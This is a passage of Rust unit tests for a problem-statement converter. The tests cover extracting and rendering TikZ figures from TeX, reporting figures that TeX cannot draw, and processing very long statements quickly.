\usetikzlibrary{arrows,calc} % the arrows
\usetikzlibrary{positioning}
\tikzset{dot/.style={circle, fill=red}}
\tikzstyle{line}=[thick]
\definecolor{mine}{RGB}{1,2,3}\setlength{\epigraphwidth}{1cm}
\newcommand{\size}[1]{#1cm}\renewcommand\name{N}\def\pair#1,#2;{(#1,#2)}
\begin{document}
Before \begin{tikzpicture}[scale=2] % first
\draw (0,0) -- (1,1); \node {\begin{tikzpicture}\fill (0,0);\end{tikzpicture}}; \end{tikzpicture} after.
\newcommand{\later}{x}
\begin{circuitikz}\draw;\end{circuitikz} \tikz[scale=2] \draw (0,0) -- {;} (1,1); \tikz{\fill;} end
\end{document}";
    let package = tex.read(&with_figures(text));
    assert_eq!(package.warnings, []);
    let html = html(&package);
    assert_eq!(html.matches("alt=\"Figure\"").count(), 4, "{html}");
    assert!(html.contains("> after.") && html.contains("> end") && !html.contains("thick"), "{html}");
    assert_eq!(package.statements[0].files.len(), 1, "equal pictures are one file");
    let documents = tex.documents.lock().unwrap();
    // Each figure once, although two statements have it.
    assert_eq!(documents.len(), 4);
    let (first, files) = &documents[0];
    for part in [
        r"{\usepackage[table]{xcolor}}",
        r"{\usepackage{pgfplots}}",
        r"\usetikzlibrary {arrows,calc}",
        r"\usetikzlibrary {positioning}",
        r"\tikzset {dot/.style={circle, fill=red}}",
        r"\tikzstyle {line}=[thick]",
        r"\definecolor {mine}{RGB}{1,2,3}",
        r"\newcommand{\size}[1]{#1cm}",
        r"\let\name\relax\newcommand\name{N}",
        r"\def \pair#1,#2;{(#1,#2)}",
        r"{\begin{tikzpicture}[scale=2] % first",
        r"\fill (0,0);\end{tikzpicture}}; \end{tikzpicture}",
    ] {
        assert!(first.contains(part), "{part} is not in {first}");
    }
    assert!(!first.contains("minted") && !first.contains("epigraph") && !first.contains(r"\later"), "{first}");
    assert!(files.contains(&"points.csv".to_owned()) && !files.iter().any(|name| name.starts_with('.')), "{files:?}");
    assert!(documents[1].0.contains(r"\usepackage{circuitikz}") && documents[1].0.contains(r"\newcommand{\later}{x}"));
    assert!(documents[2].0.contains(r"\tikz [scale=2] \draw (0,0) -- {;} (1,1);"), "{}", documents[2].0);
    assert!(documents[3].0.contains(r"\tikz {\fill;}"), "{}", documents[3].0);
}

#[test]
fn a_figure_that_tex_cannot_draw_is_said_to_be_missing() {
    let text = "\n\nBefore \\begin{tikzpicture}[scale=2]\\draw (0,0) -- (1,1);\\end{tikzpicture} after.";
    let missing = |package: &Package, why: &str| {
        let html = html(package);
        assert!(html.contains("<span class=\"missing-figure\">Figure missing</span> after"), "{html}");
        let warnings: Vec<String> = package.warnings.iter().map(ToString::to_string).collect();
        assert_eq!(warnings.len(), 2, "{warnings:?}");
        let told = |warning: &String| warning.contains("problem.en.tex:3") && warning.contains(why);
        assert!(warnings.iter().any(told), "{warnings:?}");
    };
    missing(&with_figures(text).read(), "TeX is not available here");
    for (error, why) in [
        (TexError::Missing, "TeX is not available here"),
        (
            TexError::Refused("Undefined control sequence. \\draw".into()),
            "TeX says: Undefined control sequence. \\draw",
        ),
        (TexError::Limit("15 s"), "it takes more than 15 s"),
        (TexError::Fault("no sandbox".into()), "TeX cannot be run: no sandbox"),
    ] {
        missing(&FakeTex::new(Err(error)).read(&with_figures(text)), why);
    }
    missing(&FakeTex::new(Ok(b"no PDF".to_vec())).read(&with_figures(text)), "cannot be drawn as SVG");
    // What other programs draw is never tried.
    let tex = FakeTex::new(Ok(pdf()));
    let package = tex.read(&with_figures("\\begin{asy}draw();\\end{asy} after."));
    assert!(html(&package).contains("missing-figure") && tex.documents.lock().unwrap().is_empty());
}

#[test]
fn long_statements_are_read_soon() {
    for (text, name) in [
        ("$x$ ".repeat(200_000), "problem.en.md"),
        ("a *b* ".repeat(150_000), "problem.en.md"),
        ("^[a ".repeat(50_000), "problem.en.md"),
        ("\\(x\\) ".repeat(120_000), "problem.en.html"),
        ("\\ref{a}\\label{b}".repeat(50_000), "problem.en.tex"),
        ("\\ifa ".repeat(150_000), "problem.en.tex"),
        ("\\begin{tikzpicture}".repeat(50_000) + &"\\end{tikzpicture}".repeat(50_000), "problem.en.tex"),
        (format!("\\newcommand{{\\long}}{{{}}}{}", "x".repeat(200_000), "\\tikz{x}".repeat(100_000)), "problem.en.tex"),
        ((0..60_000).map(|n| format!("$x_{{{n}}}$ ")).collect(), "problem.en.tex"),
    ] {
        let package = Fixture::new().without("statement/problem.en.md").with(&format!("statement/{name}"), text).read();
        assert_eq!(package.statements.len(), 1, "{name}");
    }
}
